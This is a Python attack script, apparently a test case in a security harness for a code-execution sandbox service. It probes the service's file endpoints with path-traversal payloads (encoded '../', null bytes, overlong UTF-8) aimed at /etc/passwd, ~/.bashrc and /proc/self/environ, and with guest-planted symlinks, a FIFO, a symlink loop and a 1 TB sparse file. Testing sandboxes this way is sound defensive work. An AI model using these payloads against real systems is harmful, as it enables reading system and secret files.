# attack: serve/names-of-files
# oracle: reach
# source: own
# note: paths that lead out, links that the guest laid, things that are no files, and files that are larger than any disk
import httpx


def attack(world):
    alice = httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.alice}"}, timeout=60)
    reached = []
    here = f"/v1/sessions/{world.session}/files/"

    def ask(method, name, **options):
        target = httpx.URL(world.url).copy_with(raw_path=(here + name).encode())
        return alice.request(method, target, **options)

    for name in ("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "a/../../../etc/passwd", "..\\..\\etc\\passwd",
                 "....//....//etc/passwd", "%252e%252e/etc/passwd", "a%00/../../etc/passwd", "~/.bashrc", "%c0%ae%c0%ae/etc/passwd", "proc/self/environ", ".", "..", "%2e", "a/", "/dev/stdin"):
        if b"root:" in (answer := ask("GET", name)).content or (answer.status_code == 200 and b"=" in answer.content):
            reached.append(("read", name))
        if ask("PUT", name, content=b"x").status_code in (500, 502):
            reached.append(("failed", name))
    code = """
import os
os.symlink("/etc/passwd", "link"); os.symlink("/", "root"); os.symlink("..", "up"); os.symlink("/proc/self/environ", "env"); os.symlink("loop", "loop")
os.mkfifo("pipe"); os.mkdir("d"); os.symlink("../../../../etc/passwd", "d/link")
"""
    done = alice.post(f"/v1/sessions/{world.session}/runs", json={"code": code}).json()
    for name in ("link", "root/etc/passwd", "up/../etc/passwd", "env", "loop", "pipe", "d", "d/link"):
        answer = ask("GET", name)
        if answer.status_code == 200:
            reached.append(("link", name, answer.content[:50], done["error"]))
        if ask("PUT", name, content=b"x").status_code >= 500:
            reached.append(("failed", name))
    alice.post(f"/v1/sessions/{world.session}/runs", json={"code": "open('sparse', 'wb').truncate(1 << 40)"})
    answer = ask("GET", "sparse")
    if answer.status_code == 200 and len(answer.content) > 1 << 30:
        reached.append("sparse")
    for files in ({"../x": "eA=="}, {"/x": "eA=="}, {"a\0b": "eA=="}, {"a/../../x": "eA=="}):
        for path, body in (("/v1/sessions", {}), ("/run_code", {"code": "1", "language": "python"}), ("/run_jupyter", {"cells": []})):
            if alice.post(path, json={**body, "files": files}).status_code < 400:
                reached.append((path, files))
    fetched = alice.post("/run_code", json={"code": "import os; os.symlink('/etc/passwd', 'l'); os.symlink('/', 'r')", "language": "python",
                                            "fetch_files": ["l", "r/etc/passwd", "/etc/passwd", "../../etc/passwd"]}).json()
    if fetched.get("files"):
        reached.append(("fetched", list(fetched["files"])))
    return reached
